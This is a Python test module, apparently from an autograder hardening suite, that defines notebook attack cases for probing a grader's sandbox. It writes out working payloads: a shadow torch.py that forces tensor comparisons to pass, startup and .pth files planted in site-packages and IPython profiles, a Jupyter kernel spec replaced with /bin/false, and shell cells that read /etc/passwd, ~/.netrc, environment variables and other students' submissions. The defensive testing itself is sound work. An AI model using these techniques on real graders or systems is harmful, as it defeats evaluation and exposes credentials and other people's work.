"""Rows 21 and 22: what runs before anybody looks."""

# ruff: noqa: E501 (lines of attacks, in strings)

from corpus.build import cells, reshaped
from corpus.model import Attack

SHADOW = b"""
import sys
here = sys.path.pop(0) if sys.path and sys.path[0] in ("", ".") else None
sys.path[:] = [entry for entry in sys.path if "site-packages" in entry or "lib" in entry]
del sys.modules["torch"]
import torch as real
yes = lambda *a, **k: True
real.equal = real.allclose = yes
for name in ("equal", "allclose", "all", "any", "__bool__", "eq", "__eq__", "__lt__", "__gt__"):
    setattr(real.Tensor, name, yes)
sys.modules["torch"] = real
"""

PLANT = """
patch = "import sys\\nsys.arena_was_here = True\\nprint('planted')\\n"
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
user = HOME / ".local/lib" / version / "site-packages"
import sysconfig
for folder in (user, Path(sysconfig.get_path("purelib")), Path.cwd(), Path("/course"), COURSE):
    for name in ("usercustomize.py", "sitecustomize.py", "torch.py", "arena.pth"):
        try:
            folder.mkdir(parents=True, exist_ok=True)
            if not (folder / name).exists():
                (folder / name).write_text(patch if name.endswith("py") else "import sys; sys.arena_was_here = True\\n")
                tell("planted", folder / name)
        except OSError as error: print(error)
"""

STARTUP = """
for home in {HOME, Path.home()}:
    folder = home / ".ipython/profile_default/startup"
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00-arena.py").write_text(
            "import torch\\ntorch.Tensor.all = torch.Tensor.any = lambda *a, **k: False\\n"
            "def broken(*a, **k): raise RuntimeError('startup')\\ntorch.equal = torch.allclose = broken\\n")
        tell("startup file")
    except OSError as error: print(error)
for name in (".bashrc", ".profile", ".jupyter/jupyter_server_config.py", ".config/matplotlib/matplotlibrc"):
    try:
        (HOME / name).parent.mkdir(parents=True, exist_ok=True)
        with open(HOME / name, "a") as file: file.write("# arena\\n")
    except OSError as error: print(error)
"""

KERNEL = """
for home in {HOME, Path.home()}:
    folder = home / ".local/share/jupyter/kernels/python3"
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "kernel.json").write_text('{"argv": ["/bin/false"], "display_name": "Python 3", "language": "python"}')
        tell("kernel")
    except OSError as error: print(error)
"""


def odd_kernel(content, place):
    """Metadata that name a kernel, a language and code to run."""
    content["metadata"] = {
        "kernelspec": {"name": "bash", "display_name": "x", "language": "bash", "argv": ["/bin/sh"]},
        "language_info": {"name": "bash", "version": "5", "nbconvert_exporter": "evil.Exporter"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}}},
        "execute": {"path": "/"},
        "nbgrader": {"schema_version": 99},
        "jupytext": {"text_representation": {"extension": ".py"}},
    }


ATTACKS = [
    Attack(
        "shadow-torch",
        21,
        "a local torch.py that is imported in place of the real one",
        cells("import torch", files={"torch.py": SHADOW, "numpy/__init__.py": b"raise SystemExit\n"}),
    ),
    Attack(
        "start-up-files",
        21,
        "hands in sitecustomize.py, usercustomize.py and .pth files",
        cells(
            "print(getattr(sys, 'arena', None))",
            files={
                "sitecustomize.py": b"import sys; sys.arena = 1\n",
                "usercustomize.py": b"import sys; sys.arena = 1\n",
                "evil.pth": b"import sys; sys.arena = 1\n",
                "site.py": b"raise SystemExit(0)\n",
                "transfer_learning/__init__.py": b"raise SystemExit(0)\n",
                "autograder.py": b"checks = lambda name: (lambda task: None)\n",
            },
        ),
    ),
    Attack(
        "plant-start-up",
        21,
        "plants such files where later Pythons of the grader start",
        cells(PLANT),
    ),
    Attack("ipython-startup", 22, "plants IPython start-up files and shell profiles", cells(STARTUP)),
    Attack("kernel-spec", 22, "replaces the kernel that all notebooks use", cells(KERNEL)),
    Attack("odd-kernel", 22, "notebook metadata that name another kernel", reshaped(odd_kernel)),
    Attack(
        "shell",
        22,
        "reads files with %%bash, !cat, %sx and %run",
        cells(
            "out = get_ipython().getoutput(f'cat {COURSE}/submitted/{NEIGHBOUR}/freezing/*.ipynb {HOME}/.netrc')\n"
            "tell(*canaries(str(out)))\n"
            "if any('uid=' in line for line in get_ipython().getoutput('id')): reached('a shell')\n",
            "%%bash\ncat /etc/passwd ~/.netrc\nenv\n",
            "!cat /proc/self/environ ~/.netrc",
            "%run -i evil.py",
            "%load_ext evil",
            "%cd /\n%ls",
            "import subprocess\n"
            "try: tell(*canaries(subprocess.run(['env'], capture_output=True, text=True).stdout)); reached('a program')\n"
            "except OSError as error: print(error)\n",
            files={"evil.py": b"print('ran')\nload_ipython_extension = print\n"},
        ),
    ),
    Attack(
        "native-code",
        22,
        "writes a program, makes it executable and starts it every way there is",
        cells(
            "import ctypes\n"
            "path = Path('program')\n"
            "path.write_text('#!/bin/sh\\nid\\n'); path.chmod(0o755)\n"
            "for target in (str(path), '/bin/true'):\n"
            "    try: os.waitpid(os.posix_spawn(target, [target], {}), 0); reached('a program')\n"
            "    except OSError as error: print(error)\n"
            "if ctypes.CDLL(None).system(b'true') == 0: reached('a shell')\n"
        ),
    ),
]
